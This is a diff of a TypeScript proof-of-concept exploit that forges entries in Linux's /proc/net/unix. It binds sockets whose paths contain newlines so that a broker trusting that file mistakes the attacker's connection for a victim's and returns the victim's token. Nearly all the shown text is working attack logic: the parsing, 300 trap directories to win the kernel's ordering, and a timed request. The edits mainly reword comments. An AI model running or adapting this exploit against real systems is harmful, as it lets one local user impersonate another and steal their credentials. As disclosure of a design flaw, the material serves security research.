@@ -1,11 +1,11 @@
 /**
- * An attack by a user who wants another user's token. The kernel lists a Unix socket in /proc/net/unix with
- * the path that it was bound to, unescaped. A path may contain a newline, so a user can add lines there. This
- * program adds one that claims that the connection, by its inode, came through the victim's socket.
+ * An attack on a broker that would identify its client by /proc/net/unix. The kernel lists each Unix socket
+ * there with the path that it was bound to, unescaped. A path can contain a newline, so a user can add lines.
+ * This program adds a line which claims that its connection was accepted by the victim's socket.
  *
- *     broker-trap OWN_SOCKET VICTIMS_SOCKET REQUEST
+ *     proc-net-unix-spoof OWN_SOCKET VICTIMS_SOCKET REQUEST
  *
- * Prints the lines as they were before the request, and the answer, as JSON.
+ * Prints the path listed for the connection before the request is sent, and the answer, as JSON.
  */
 import { mkdirSync, readFileSync, renameSync } from 'node:fs';
 import { connect, createServer } from 'node:net';
@@ -19,7 +19,7 @@ interface Line {
 
 const [own = '', victims = '', request = ''] = process.argv.slice(2);
 
-/** Splits the file at newlines, as a naive reader does. */
+/** The lines of the file, as a program reads them that splits it at newlines. */
 function lines(): Line[] {
   const text = readFileSync('/proc/self/net/unix', 'utf8');
   return [...text.matchAll(/^\S+ \S+ \S+ \S+ \S+ (\S+) +(\d+) (\/.*)$/gm)].map(
@@ -27,13 +27,13 @@ function lines(): Line[] {
   );
 }
 
-/** Inodes of accepted connections: 03 is SS_CONNECTED. */
+/** Inodes of the own socket's accepted connections; 03 is SS_CONNECTED. */
 function accepted(): string[] {
   return lines().flatMap(({ state, inode, path }) => (path === own && state === '03' ? inode : []));
 }
 
-// The kernel sorts sockets by the last eight bits of their inodes, the newest first: of this many, one is
-// listed before the true line.
+// The kernel sorts sockets by the last eight bits of their inodes, newest first. Among 300 consecutive ones, at
+// least one is listed before the true line.
 const traps = Array.from({ length: 300 }, (_, number) => `x${number}`);
 for (const name of traps) mkdirSync(join(name, dirname(victims)), { recursive: true });
 const before = new Set(accepted());
@@ -49,7 +49,7 @@ connection.on('connect', () => {
       .unref();
   }
   const trap = lines().find((line) => line.inode === inode)?.path;
-  // A broker that trusted the list would have read it long before.
+  // A broker that trusts the list has read it by then.
   setTimeout(() => connection.write(request), 1_500);
   let answer = '';
   connection.on('data', (data) => (answer += data.toString()));
